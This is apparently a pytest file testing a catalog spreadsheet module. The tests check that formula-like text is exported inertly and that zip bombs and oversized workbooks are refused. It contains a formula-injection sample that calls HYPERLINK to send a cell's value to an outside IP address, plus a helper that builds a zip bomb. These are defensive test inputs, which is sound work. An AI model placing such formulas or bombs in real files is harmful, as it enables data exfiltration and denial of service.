"""The catalog export writes texts, never formulas, and the import
refuses oversized files (zip bombs, too many rows, overlong cells) before parsing them."""

from __future__ import annotations

import dataclasses
import io
import zipfile

import pytest
from openpyxl import Workbook

from hall_server.catalog_io import CatalogImportError, export_workbook, read_workbook
from hall_server.catalog_io import workbook as wbmod
from hall_server.catalog_io.workbook import MATERIAL_COLUMNS, MATTER_COLUMNS
from hall_server.core.catalog import CatalogEntry, default_catalog

NASTY = (
    '=HYPERLINK("http://198.51.100.7/x?d="&B3,"点击")',
    "+86 139 1234 5678",
    "-1+1",
    "@SUM(A1:A9)",
)


def entries_with_formula_texts() -> list[CatalogEntry]:
    matters = default_catalog()[:4]
    out = []
    for m, text in zip(matters, NASTY, strict=True):
        material = dataclasses.replace(m.materials[0], requirement=text)
        out.append(CatalogEntry(dataclasses.replace(m, name=text, materials=(material,)), 0, True))
    return out


def test_texts_that_look_like_formulas_are_exported_as_texts_and_reimport_identically():
    data = export_workbook(entries_with_formula_texts())
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no live formula anywhere
    back = read_workbook(data)
    assert [e.matter.name for e in back] == list(NASTY)
    assert [e.matter.materials[0].requirement for e in back] == list(NASTY)


def zip_bomb(megabytes: int) -> bytes:
    """An .xlsx-shaped zip whose one sheet inflates to ``megabytes`` MiB of blanks (about 1 MB packed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            chunk = b" " * (1024 * 1024)
            for _ in range(megabytes):
                f.write(chunk)
    return out.getvalue()


def test_a_zip_bomb_is_refused_from_its_declared_sizes_without_parsing(monkeypatch):
    bomb = zip_bomb(282)
    assert len(bomb) < 1_100_000

    def parse(*args, **kwargs):
        raise AssertionError("the workbook was parsed")

    monkeypatch.setattr(wbmod, "load_workbook", parse)
    with pytest.raises(CatalogImportError) as err:
        read_workbook(bomb)
    assert "解压后约 282" in str(err.value) and "上限" in str(err.value)


def workbook(matter_rows: int = 1, requirement: str = "原件") -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = "事项"
    ws.append([h for h, _ in MATTER_COLUMNS])
    for n in range(matter_rows):
        ws.append([f"T{n:05d}", "测试事项", "民政办", "civil_affairs", "高频", "承诺", 5, 20, "A", 10])
    mats = wb.create_sheet("材料")
    mats.append([h for h, _ in MATERIAL_COLUMNS])
    mats.append(["T00000", "身份证", requirement, "", "是", 1, "是"])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_too_many_rows_are_refused_with_the_limit_named(monkeypatch):
    monkeypatch.setattr(wbmod, "MAX_ROWS", 50)
    assert len(read_workbook(workbook(50))) == 50
    with pytest.raises(CatalogImportError) as err:
        read_workbook(workbook(51))
    assert "行数超过 50 行" in str(err.value)


def test_an_overlong_cell_is_refused_with_sheet_row_and_column():
    with pytest.raises(CatalogImportError) as err:
        read_workbook(workbook(1, "很" * (wbmod.MAX_CELL_CHARS + 1)))
    assert "工作表“材料”第2行 要求" in str(err.value) and "2000 个字" in str(err.value)
